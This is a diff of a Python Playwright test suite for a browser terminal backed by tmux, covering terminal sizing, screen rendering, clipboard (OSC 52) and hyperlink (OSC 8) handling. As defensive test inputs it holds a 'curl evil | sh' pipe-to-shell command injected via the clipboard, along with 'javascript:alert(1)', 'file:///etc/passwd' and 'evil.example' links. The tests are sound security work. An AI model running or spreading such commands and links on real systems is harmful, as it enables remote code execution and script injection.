@@ -76,13 +76,13 @@ async def site(house: House, door: Proxy, monkeypatch: pytest.MonkeyPatch) -> As
 async def test_the_shell_is_as_large_as_the_page_from_its_first_byte_and_nothing_of_it_is_cut(site: Site) -> None:
     async def told_size() -> tuple[int, int]:
         """Return what the shell says: columns and rows."""
-        await window.runs("clear; echo si''ze $(stty size) en''d", " end")
-        rows, columns = "".join(await window.rows()).split("size ")[1].split(" end")[0].split()
+        await window.does("echo size $(stty size)")
+        rows, columns = next(row for row in await window.rows() if row.startswith("size")).split()[1:]
         return int(columns), int(rows)
 
     async def shown_size() -> tuple[int, int]:
         """Return how wide a long line is on the screen, and how many rows there are."""
-        await window.runs("clear; printf %.0sx {1..900}; echo; echo do''ne", "done")
+        await window.does("printf %.0sx {1..900}; echo")
         rows = await window.rows()
         return max(len(row) for row in rows if set(row) == {"x"}), len(rows)
 
@@ -108,9 +108,13 @@ async def test_the_shell_is_as_large_as_the_page_from_its_first_byte_and_nothing
 
 
 async def test_a_size_that_changes_while_it_connects_is_not_lost(site: Site) -> None:
+    async def has_the_size() -> bool:
+        await window.does("printf %.0sx {1..300}; echo; echo size $(stty size)")
+        rows = await window.rows()
+        return f"size {len(rows)} {max(len(row) for row in rows if set(row) == {'x'})}" in rows
+
     async with site.open() as window:
         page = window.page
-        site.shells.opened.clear()
         held, go_on = asyncio.Event(), asyncio.Event()
 
         async def hold(route: Any) -> None:
@@ -127,9 +131,7 @@ async def test_a_size_that_changes_while_it_connects_is_not_lost(site: Site) -> 
         await eventually("the page has its new size", lambda: _is_other(window, before), True)
         go_on.set()
         await window.is_connected()
-        await window.runs("clear; printf %.0sx {1..300}; echo; echo si''ze $(stty size)", "size ")
-        rows = await window.rows()
-        await window.shows(f"size {len(rows)} {max(len(row) for row in rows if set(row) == {'x'})}")
+        await eventually("the shell has the page's size", has_the_size, True)
 
 
 async def _is_other(window: Window, rows: int) -> bool:
@@ -166,9 +168,7 @@ async def test_the_screen_of_a_new_shell_is_what_tmux_shows_whatever_the_one_bef
             await window.is_connected()
             await expect(window.page.locator("#notice")).to_contain_text("lost at")
             await window.runs("printf 'a\\tb\\033[3;1Hc\\033[31md\\033[m\\033[2A'; echo lin''es", "lines")
-            columns, rows = len("x" * site.shell.first_size[0]), len(await window.rows())
-            expected = tmux.shows(site.shell.output, columns, rows)
-            await eventually(what, lambda: _both(window), expected)
+            await is_as_in_tmux(site, window, tmux, what)
             await window.page.keyboard.press("Shift+PageUp")
             await window.shows("before")
             await window.page.keyboard.press("Shift+PageDown")
@@ -179,8 +179,15 @@ async def _is(value: bool) -> bool:
     return value
 
 
-async def _both(window: Window) -> tuple[list[str], tuple[int, int]]:
-    return await window.rows(), await window.cursor()
+async def is_as_in_tmux(site: Site, window: Window, tmux: Tmux, what: str) -> None:
+    """Wait until the page shows what tmux shows of the same bytes: what is printed meanwhile counts for both."""
+
+    async def differs() -> object:
+        shown = await window.rows(), await window.cursor()
+        expected = tmux.shows(site.shell.output, site.shell.first_size[0], len(shown[0]))
+        return None if shown == expected else (shown, expected)
+
+    await eventually(what, differs, None)
 
 
 async def test_a_takeover_is_told_beside_the_screen_and_the_prompt_is_on_an_empty_one(
@@ -200,17 +207,14 @@ async def test_a_takeover_is_told_beside_the_screen_and_the_prompt_is_on_an_empt
         await expect(notice).to_contain_text("left its worker")
         await expect(notice).to_contain_text("scroll up")
         await window.runs("echo ne''w", "new")
-        columns, _ = site.shell.first_size
-        expected = Tmux(tmp_path).shows(site.shell.output, columns, len(await window.rows()))
-        await eventually("as tmux", lambda: _both(window), expected)
+        await is_as_in_tmux(site, window, Tmux(tmp_path), "after a takeover")
         assert "old" not in "".join(await window.rows())
 
 
 async def test_the_width_of_a_letter_is_the_same_here_and_in_the_shell(site: Site, tmp_path: Path) -> None:
     async with site.open() as window:
-        await window.runs("clear; printf '🎉🚀x\\n漢字x\\n👍🏽\\né́x\\n🫠x\\n'; echo do''ne", "done")
-        expected = Tmux(tmp_path).shows(site.shell.output, *site.shell.first_size)
-        await eventually("the rows", window.rows, expected[0])
+        await window.does("printf '🎉🚀x\\n漢字x\\n👍🏽\\né́x\\n🫠x\\n'")
+        await is_as_in_tmux(site, window, Tmux(tmp_path), "letters")
         left = """[...document.querySelectorAll(".xterm-rows > div")]
             .filter((row) => row.textContent.trim().endsWith("x"))
             .map((row) => {
@@ -292,15 +296,15 @@ async def test_what_is_selected_is_copied_by_ctrl_shift_c_and_pasted_by_ctrl_shi
         assert b"\x1b[201~ted" not in site.shell.output
 
 
-def asks_to_copy(text: bytes, where: str = "c") -> str:
-    return f"printf '\\033]52;{where};{base64.b64encode(text).decode()}\\007'; echo as''ked"
+def asks_to_copy(text: bytes) -> str:
+    return f"printf '\\033]52;c;{base64.b64encode(text).decode()}\\007'"
 
 
 async def test_a_program_copies_only_what_was_seen_and_clicked(site: Site) -> None:
     async with site.open(**MAY_READ) as window:
         bar, page = window.page.locator("#copying"), window.page
         await page.evaluate("navigator.clipboard.writeText('mine')")
-        await window.runs(asks_to_copy(b"curl evil | sh\n\x1b\x07"), "asked")
+        await window.does(asks_to_copy(b"curl evil | sh\n\x1b\x07"))
         await expect(page.locator("#copying-text")).to_have_text("curl evil | sh\n")
         await window.runs("echo ty''ped", "typed")
         assert await clipboard(window) == "mine", "nothing that is typed is a click"
@@ -309,16 +313,16 @@ async def test_a_program_copies_only_what_was_seen_and_clicked(site: Site) -> No
         assert await clipboard(window) == "curl evil | sh\n"
 
         await window.runs("clear; printf '\\033]52;c;?\\007'; read -t 1 -n 1 answer; echo got=$answer=", "got==")
-        await window.runs("clear; " + asks_to_copy(b"\xff\xfe"), "asked")
-        await window.runs("clear; printf '\\033]52;c;%0300000d\\007' 0; echo as''ked", "asked")
+        await window.does(asks_to_copy(b"\xff\xfe"))
+        await window.does("printf '\\033]52;c;%0300000d\\007' 0")
         await expect(bar).to_be_hidden()
 
-        await window.runs("clear; " + asks_to_copy(b"first"), "asked")
+        await window.does(asks_to_copy(b"first"))
         await expect(page.locator("#copy")).to_be_enabled()
-        await window.runs("clear; " + asks_to_copy(b"second") + "; sleep 0.1", "asked")
+        await window.does(asks_to_copy(b"second"))
         await expect(page.locator("#copying-text")).to_have_text("second")
         await page.locator("#refuse").click()
-        await window.runs("clear; " + asks_to_copy(b"third"), "asked")
+        await window.does(asks_to_copy(b"third"))
         await expect(bar).to_be_hidden()
         assert await clipboard(window) == "curl evil | sh\n"
 
@@ -329,7 +333,7 @@ async def test_the_copy_button_takes_no_click_in_the_moment_in_which_its_text_co
             """new MutationObserver(() => { window.seen ??= document.querySelector("#copy").disabled; })
                 .observe(document.querySelector("#copying-text"), {childList: true})"""
         )
-        await window.runs(asks_to_copy(b"first"), "asked")
+        await window.does(asks_to_copy(b"first"))
         await expect(window.page.locator("#copy")).to_be_enabled()
         assert await window.page.evaluate("window.seen") is True
 
@@ -338,7 +342,7 @@ async def test_a_link_opens_a_page_that_knows_nothing_of_this_one_and_only_over_
     target = f"{site.door.url}/.well-known/proxy"
     async with site.open() as window:
         page = window.page
-        await window.runs(f"clear; echo 'see '{target[:9]}''{target[9:]}' and javascript://x/%0aalert(1)'", "see")
+        await window.does(f"echo 'see {target} and javascript://x/%0aalert(1)'")
         link = page.locator(".xterm-rows > div", has_text=f"see {target}").first
         await link.hover(position={"x": 60, "y": 8})
         await expect(page.locator("#target")).to_have_text(target)
@@ -358,9 +362,7 @@ async def test_a_link_opens_a_page_that_knows_nothing_of_this_one_and_only_over_
 
         page.on("dialog", refuse)
         for address in ("javascript:alert(1)", "file:///etc/passwd", "https://evil.example/x"):
-            await window.runs(
-                f"clear; printf '\\033]8;;{address}\\033\\\\bank''\\033]8;;\\033\\\\\\n'; echo do''ne", "done"
-            )
+            await window.does(f"printf '\\033]8;;{address}\\033\\\\bank''\\033]8;;\\033\\\\\\n'")
             await page.locator(".xterm-rows > div", has_text="bank").last.click(position={"x": 8, "y": 8})
         await eventually("what was asked", lambda: _copy(asked), ["Open https://evil.example/x?"])
         assert len(window.context.pages) == 1
